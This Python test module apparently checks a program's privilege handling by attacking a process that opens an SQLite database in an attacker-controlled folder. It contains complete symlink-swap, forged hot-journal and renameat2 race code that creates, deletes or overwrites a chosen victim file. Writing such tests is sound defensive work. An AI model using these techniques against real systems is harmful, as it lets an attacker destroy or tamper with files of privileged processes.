"""Attacks on a process that opens an SQLite file in a folder of the attacker's.

    python -m tests.system.privileges.sqlite_attack create|delete|overwrite DATABASE VICTIM

SQLite opens the database and its journal by name, and believes the journal. In a folder where the
attacker may rename, it can be led to any other path:

- create: a link in place of the database names a file that does not exist.
- delete: a hot journal names the victim as its super-journal. SQLite removes it after a rollback.
- overwrite: the database is a link through a folder, which changes places with a link to the folder
  of the victim all the time. SQLite opens the victim, and rolls the attacker's journal back there.

Each attack is prepared, prints "ready", and lasts until the standard input is closed.
"""

from __future__ import annotations

import ctypes
import os
import select
import sqlite3
import struct
import sys
from collections.abc import Callable
from contextlib import closing, suppress
from pathlib import Path

# https://www.sqlite.org/fileformat2.html, "The Rollback Journal".
MAGIC = bytes.fromhex("d9d505f920a163d7")
SECTOR_BYTES, PAGE_BYTES = 512, 4096
# The page with the lock bytes is never in a journal: as a page number it begins the name.
LOCK_PAGE = 0x40000000 // PAGE_BYTES + 1
AT_FDCWD, RENAME_EXCHANGE = -100, 2
MARK = b"written by the attacker"


def create(database: Path, victim: Path) -> None:
    """Put a link to the victim in the place of the database."""
    _link(database, victim)


def delete(database: Path, victim: Path) -> None:
    """Write a database with a hot journal whose super-journal is the victim."""
    _make_database(database)
    name = str(victim).encode()
    tail = struct.pack(">I", LOCK_PAGE) + name
    tail += struct.pack(">II", len(name), sum(name)) + MAGIC
    _journal(database).write_bytes(_header(records=0) + tail)


def overwrite(database: Path, victim: Path) -> None:
    """Write a journal with a page for the victim, for a database with the victim's name."""
    ours, theirs = database.parent / "ours", database.parent / "theirs"
    ours.mkdir()
    _make_database(ours / victim.name)
    page = MARK.ljust(PAGE_BYTES, b"\n")
    record = struct.pack(">I", 1) + page + struct.pack(">I", _checksum(page))
    (database.parent / "journal").write_bytes(_header(records=1) + record)
    theirs.symlink_to(victim.parent)
    _link(database, ours / victim.name)


def exchange(database: Path, until: Callable[[], bool]) -> None:
    """Let the two folders of `overwrite` change places, and put a used journal back."""
    ours, theirs = (str(database.parent / name).encode() for name in ("ours", "theirs"))
    journal = f"{database.readlink().name}-journal"
    libc = ctypes.CDLL(None, use_errno=True)
    folder = os.open(ours, os.O_PATH)
    while not until():
        for _ in range(100):
            with suppress(FileExistsError):
                os.link(database.parent / "journal", journal, dst_dir_fd=folder)
            if libc.renameat2(AT_FDCWD, ours, AT_FDCWD, theirs, RENAME_EXCHANGE):
                raise OSError(ctypes.get_errno(), "The folders cannot change places")


def _link(database: Path, target: Path) -> None:
    """Put a link in the place of a database that another process may make again any time."""
    link = database.with_name("link")
    link.symlink_to(target)
    link.replace(database)
    for file in database.parent.glob(f"{database.name}-*"):
        file.unlink(missing_ok=True)


def _journal(database: Path) -> Path:
    return database.with_name(f"{database.name}-journal")


def _make_database(file: Path) -> None:
    new = file.with_name("new")
    with closing(sqlite3.connect(new)) as database:
        database.executescript(f"PRAGMA page_size = {PAGE_BYTES}; CREATE TABLE t (x);")
    new.replace(file)
    for name in ("wal", "shm"):
        file.with_name(f"{file.name}-{name}").unlink(missing_ok=True)


def _header(records: int) -> bytes:
    """Return a journal's first sector: `records` pages of a database of two pages, nonce 0."""
    fields = struct.pack(">IIIII", records, 0, 2, SECTOR_BYTES, PAGE_BYTES)
    return (MAGIC + fields).ljust(SECTOR_BYTES, b"\0")


def _checksum(page: bytes) -> int:
    """Return the sum of every 200th byte from the end, which is the checksum for the nonce 0."""
    return sum(page[index] for index in range(PAGE_BYTES - 200, 0, -200))


def main() -> None:
    """Prepare the attack, then go on with it until the standard input is closed."""
    kind, database, victim = sys.argv[1], Path(sys.argv[2]), Path(sys.argv[3])
    {"create": create, "delete": delete, "overwrite": overwrite}[kind](database, victim)
    print("ready", flush=True)
    if kind == "overwrite":
        exchange(database, until=lambda: bool(select.select([sys.stdin], [], [], 0)[0]))
    else:
        sys.stdin.read()


if __name__ == "__main__":
    main()
